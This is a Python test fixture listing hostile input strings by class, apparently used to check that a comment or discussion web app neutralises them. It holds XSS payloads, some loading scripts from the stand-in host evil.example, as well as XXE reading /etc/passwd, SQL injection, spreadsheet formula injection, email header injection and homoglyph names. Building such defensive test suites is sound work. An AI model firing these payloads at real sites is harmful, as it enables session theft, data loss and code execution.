"""Texts as nobody means them, written for these tests by class: each could break a sink that takes it for more than words.

What runs, if anything does, sets `window.__xss`, opens a dialog, or asks host `evil.example` for something: the browser of the tests sees all three.
"""

from __future__ import annotations

RUN = "window.__xss=1"
TAGS = [
    f"<script>{RUN}</script>", f"<script\x0b>{RUN}</script>", f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", "<script src=//evil.example/x.js></script>", "<script type=module>import('//evil.example/m.js')</script>",
    "<iframe src=//evil.example></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", "<object data=//evil.example/x.swf></object>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example/s)}</style>",
    "<img src=//evil.example/pixel.gif>", "<video poster=//evil.example/p.png><source src=//evil.example/v>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>", "<input type=image src=//evil.example/i formaction=//evil.example>",
    f"<!--><script>{RUN}</script>-->", "<plaintext>", "</div></main></body></html>",
    "</li></ol></article>", "<dialog open>Sign in again</dialog>",
]  # fmt: skip
HANDLERS = [
    f"<img src=x onerror={RUN}>", f"<img src=x onerror\x0a=\x0a'{RUN}'>", f"<img/src=x/onerror={RUN}>", f"<IMG \"\"\"><SCRIPT>{RUN}</SCRIPT>\">",
    f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}></video>",
    f"<a id=x tabindex=1 onfocus={RUN}>x</a>",
    f"<button popovertarget=p>x</button><div id=p popover onbeforetoggle={RUN}>",
]  # fmt: skip
ATTRIBUTES = [
    f"\" onmouseover=\"{RUN}", f"` onmouseover=`{RUN}", f"\"><script>{RUN}</script>",
    f"x\" autofocus onfocus={RUN} x=\"", f"--!><img src=x onerror={RUN}>", "\" style=\"position:fixed;inset:0\"", "x' id='main' class='",
    f"</textarea><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</noscript><img src=x onerror={RUN}>",
    f"</pre></blockquote><img src=x onerror={RUN}>", "\" value=\"staff",
]  # fmt: skip
LINKS = [
    f"<a href=javascript:{RUN}>x</a>", f"<a href='jav&#x09;ascript:{RUN}'>x</a>", f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//http://x.example", f"\x01javascript:{RUN}", f"javascript&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==", f"data:image/svg+xml,<svg onload={RUN}>",
    "//evil.example/x", "\\\\evil.example\\x", "http://", "https://[::1",
    f"https://x.example/\"onmouseover=\"{RUN}", "https://x.example/<script>alert(1)</script>",
    "https://paper.example@evil.example/", "https://evil.example\\@paper.example/",
    "https://xn--pple-43d.example/", "https://раper.example/", "https://paper.example:99999/", "https://x.example/%00%0d%0aSet-Cookie:a=1",
    "https://x.example/\u202egnp.exe", "https://x.example/a&b=1&amp;c=2&lt;d", "https://x.example/(a(b)c)).",
    f"[x](javascript:{RUN})", f"<javascript:{RUN}>",
    f"https://javascript:{RUN}", f"https://x.example/\x00javascript:{RUN}", "http://127.0.0.1:1/accounts/sign-out", "https://" + "a" * 2500,
]  # fmt: skip
FOREIGN = [
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", "<svg><use href=//evil.example/s.svg#x />",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>", f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    f"<math href=javascript:{RUN}>x</math>", f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<template><img src=x onerror={RUN}></template>", f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={RUN} src>\">", f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<table><td><svg><desc><table><td><a href=javascript:{RUN}>", f"<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={RUN}>\">",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>", "]]>", "&y;",
]  # fmt: skip
CLOBBERING = [
    "<img name=cookie>", "<form id=document><input name=body>", "<a id=main><a id=main name=content href=//evil.example>", "<input name=csrfmiddlewaretoken value=x>",
    "<a class=report-form data-report=x href=//evil.example>x</a>",
    "<section data-told>We have your complaint</section>", "constructor[prototype][x]", "</form><form id=refused>",
]  # fmt: skip
ENTITIES = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&#x3c;img src=x onerror={RUN}&#x3e;", "&amp;lt;b&amp;gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", "&#0;&#xFFFFFFFF;",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e", "<\u0338b>", "&lt", "&" * 40,
]  # fmt: skip
JAVASCRIPT = [
    f"</script><script>{RUN}</script>", f"\";{RUN};//", f"\u2028{RUN}\u2029", f"${{{RUN}}}", f"{{{{constructor.constructor('{RUN}')()}}}}", "{{ settings.SECRET_KEY }}",
    "{% include '/etc/passwd' %}", "<%= 7*7 %>", "\\", "{\"rows\": [], \"__proto__\": {}}", "<!--<script>", "#{7*7}",
]  # fmt: skip
UNSEEN = [
    "\u202etxet desrever", "\u2066a\u2067b\u2068c\u2069", "ad\u200bm\u200ci\u200dn", "a\u00adb\u034fc", "a\x00b", "\x00", "a\ud800b",
    "\U000e0041\U000e0042tags", "\x1b[2J\x1b[31mred", "\x1b]0;owned\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x0c\x0b\x85x",
    "\ufffe\uffff\ufdd0x", "\ufff9x\ufffay\ufffb", "\u3164\u3164", "a" + "\u0301" * 400, "\u0489" * 60 + "x", "\U0001f468\u200d" * 90 + "\U0001f469", "قُتل \u202b٤١\u202c x", "שלום/(abc)/עולם",
    "e\u0301 vs \u00e9",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)", "\t=1+1", "\n=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "\uff1d1+1",
    "\uff20SUM(1)", " =1+1", "\";=1+1;\"", "a\n=1+1",
]  # fmt: skip
HEADERS = [
    "x\r\nBcc: everybody@evil.example", "x\nSubject: other", "x\r\n\r\n<script>1</script>", "x%0d%0aBcc:everybody@evil.example", "x\u2028Bcc: everybody@evil.example", ".\r\n.\r\nQUIT",
    "=?utf-8?q?=0D=0ABcc:_everybody=40evil.example?=", "\r\nContent-Type: text/html\r\n\r\n<b>x</b>", "--boundary\r\nContent-Type: text/html", "x,everybody@evil.example",
]  # fmt: skip
NAMES = [
    "Moderаtor", "Mοderator", "Ｍoderator", "M0derator", "Моderator", "adrnin", "Ann\u200b", "Ann\u202e", "  Ann  ", "a" * 400, "Ann\u0301\u0301\u0301\u0301", "On record", "A reader", "../../etc/passwd", "admin'--", "' OR 1=1 --", "'; DROP TABLE discussion_comment; --",
    "Robert\x00", "%", "_", "\U0001f60e", "𝕄𝕠𝕕𝕖𝕣𝕒𝕥𝕠𝕣", "ⓜⓞⓓ", "Ꮇoderator",
]  # fmt: skip
LONG = [
    "w" * 3900, "<" * 3900, "http://" * 500, "(" * 3900, "a\n\n" * 1200, "https://x.example/" + "(" * 900, "\u0335a" * 900,
]  # fmt: skip
CLASSES = {
    "tags": TAGS, "handlers": HANDLERS, "attributes": ATTRIBUTES, "links": LINKS, "foreign": FOREIGN, "clobbering": CLOBBERING, "entities": ENTITIES, "javascript": JAVASCRIPT,
    "unseen": UNSEEN, "formulas": FORMULAS, "headers": HEADERS, "long": LONG,
}  # fmt: skip
HOSTILE_TEXTS = [text for texts in CLASSES.values() for text in texts]
